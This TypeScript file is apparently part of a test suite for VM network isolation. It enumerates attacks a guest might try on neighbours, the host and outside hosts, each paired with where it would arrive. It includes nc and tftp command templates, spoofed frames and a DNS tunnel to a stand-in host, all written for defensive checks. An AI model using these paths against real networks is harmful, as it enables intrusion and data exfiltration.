// Every forbidden path, as an attack of one guest on others, on the host and on the world outside, with where it would arrive.

import type { Attacker } from './attacker.ts'
import { dnsQuestion, everybody, fragments, ping, udp } from './frames.ts'
import { arpPoisoning, ipv6, oddFrames, rogueDhcp, spoofing } from './link-attacks.ts'
import type { World } from './world.ts'

/** Where words of an attack are looked for: in the neighbour on the same bridge, in a guest on a bridge of its own, … */
export const places = ['neighbour', 'stranger', 'bridge', 'host', 'outside'] as const
export type Place = (typeof places)[number]

export interface Attack {
  readonly name: string
  /** What the attacker sends as frames of his own; the words are his sign. */
  readonly frames?: (words: string) => readonly Buffer[]
  /** Or runs, on the guest's own stack. */
  readonly script?: (words: string) => string
  /** Where it arrives when nothing hinders it, which a control shows. It must arrive nowhere. */
  readonly arrivesAt: readonly Place[]
  /** Places where the words may be seen all the same, as a question in a bridge that nobody answers. */
  readonly maySee?: readonly Place[]
  /** Changes what other attacks need while it lasts. */
  readonly alone?: true
  /** Asks the host to pass it on, which is a matter of rules alone. */
  readonly throughHost?: true
}

export interface Cast {
  readonly world: World
  readonly mallory: Attacker
  readonly neighbour: Attacker
  readonly stranger: Attacker
  /** An address of the host that is on no bridge of VMs. */
  readonly hostAddress: string
}

/** What a guest of another customer does not do: "a guest … reaches no other VM by its address". */
export const attackGroups = {
  'reaches no other VM by its address': otherVms,
  'sends nothing from a card or an address that is not its own': spoofing,
  'poisons the ARP of neither gateway nor neighbour': arpPoisoning,
  'is no DHCP server, and no client but itself': rogueDhcp,
  'speaks no IPv6: no router, no neighbour, no datagram': ipv6,
  'sends no VLAN tag and no odd ethertype': oddFrames,
  'reaches no port of the host, at the gateway or elsewhere': hostPorts,
  'reaches no private, link-local or metadata address': privateRanges,
  'sends no mail, and asks and tunnels through no foreign DNS': mailAndDns
} as const satisfies Record<string, (cast: Cast) => Attack[]>

export function allAttacks(cast: Cast): Attack[] {
  return Object.values(attackGroups).flatMap((group) => group(cast))
}

/** By the guest's own stack, which asks by ARP and takes its routes. */
function connect(words: string, address: string, port: number): string {
  return `echo '${words}' | nc -w 4 ${address} ${port}`
}

/** The same for a datagram: a request for a file of this name. */
export function tell(words: string, address: string, port: number): string {
  return `timeout 3 tftp -g -r '${words}' -l /dev/null ${address} ${port}`
}

/** A datagram by way of the host, in a frame of the attacker's own. */
export function datagram(
  { mallory }: Cast,
  to: string,
  toPort: number
): (words: string) => readonly Buffer[] {
  const { mac, address, gateway } = mallory
  return (words) => [udp({ from: mac, to: gateway.mac }, { from: address, to, toPort }, words)]
}

function otherVms({ mallory, neighbour, stranger }: Cast): Attack[] {
  const { address, mac, gateway } = mallory
  const throughHost = { from: mac, to: gateway.mac }
  return [
    {
      name: 'a frame to the card of a neighbour',
      frames: (words) => [
        udp({ from: mac, to: neighbour.mac }, { from: address, to: neighbour.address }, words)
      ],
      arrivesAt: ['neighbour']
    },
    {
      name: 'a frame to everybody',
      frames: (words) => [udp({ from: mac, to: everybody }, { from: address, to: '255.255.255.255' }, words)],
      arrivesAt: ['neighbour', 'bridge']
    },
    {
      name: 'a neighbour by its address',
      script: (words) => tell(words, neighbour.address, 5000),
      arrivesAt: ['neighbour']
    },
    {
      name: 'a neighbour by way of the host',
      throughHost: true,
      frames: (words) => [udp(throughHost, { from: address, to: neighbour.address }, words)],
      arrivesAt: ['neighbour'],
      maySee: ['bridge']
    },
    {
      name: 'a guest on another bridge',
      script: (words) => tell(words, stranger.address, 5000),
      arrivesAt: ['stranger'],
      maySee: ['bridge']
    },
    {
      name: 'the web server of a guest on another bridge',
      script: (words) => connect(words, stranger.address, 80),
      arrivesAt: ['stranger'],
      maySee: ['bridge']
    },
    {
      name: 'a ping of a guest on another bridge',
      frames: (words) => [ping(throughHost, { from: address, to: stranger.address }, words)],
      arrivesAt: ['stranger'],
      maySee: ['bridge']
    }
  ]
}

function hostPorts(cast: Cast): Attack[] {
  const { world, mallory, hostAddress } = cast
  const { address, mac } = mallory
  const { port } = world.hostPorts
  const targets = { 'the gateway': mallory.gateway.address, 'another address of the host': hostAddress }
  const common = { arrivesAt: ['host'], maySee: ['bridge'] } as const
  const toEverybody = { from: address, to: '255.255.255.255', toPort: port }
  return [
    ...Object.entries(targets).flatMap(([name, target]): Attack[] => [
      { ...common, name: `TCP to ${name}`, script: (words) => connect(words, target, port) },
      { ...common, name: `UDP to ${name}`, frames: datagram(cast, target, port) }
    ]),
    {
      ...common,
      name: 'UDP to everybody on the bridge',
      frames: (words) => [udp({ from: mac, to: everybody }, toEverybody, words)]
    }
  ]
}

function privateRanges(cast: Cast): Attack[] {
  const common = { arrivesAt: ['outside'], maySee: ['bridge'] } as const
  return Object.entries(cast.world.outside.forbidden).flatMap(([name, address]): Attack[] => [
    { ...common, name: `${name}, UDP`, frames: datagram(cast, address, 5000) },
    { ...common, name: `${name}, TCP`, script: (words) => connect(words, address, 80) }
  ])
}

function mailAndDns(cast: Cast): Attack[] {
  const { world, mallory } = cast
  const { server, foreignResolver, resolver } = world.outside
  const { address, mac, gateway } = mallory
  const through = { arrivesAt: ['outside'], maySee: ['bridge'] } as const
  const to = (name: string, script: (words: string) => string): Attack => ({ ...through, name, script })
  const throughHost = { from: mac, to: gateway.mac }
  const tunnel = (words: string) => dnsQuestion(`${words}.tunnel.example`, 'TXT')
  const query = { from: address, to: foreignResolver, toPort: 53 }
  return [
    to('TCP port 25', (words) => connect(words, server, 25)),
    to('TCP port 53 of a resolver that is none of ours', (words) => connect(words, foreignResolver, 53)),
    {
      ...through,
      name: 'UDP port 53 of a resolver that is none of ours',
      frames: datagram(cast, foreignResolver, 53)
    },
    {
      ...through,
      name: 'a tunnel in names, past our resolvers',
      frames: (words) => [udp(throughHost, query, tunnel(words))]
    },
    {
      ...through,
      name: 'UDP port 53 of a resolver that is none of ours, in pieces',
      frames: (words) => fragments(throughHost, query, `${words}${'.'.repeat(64)}`)
    },
    to('TCP port 25 of our resolver', (words) => connect(words, resolver, 25))
  ]
}
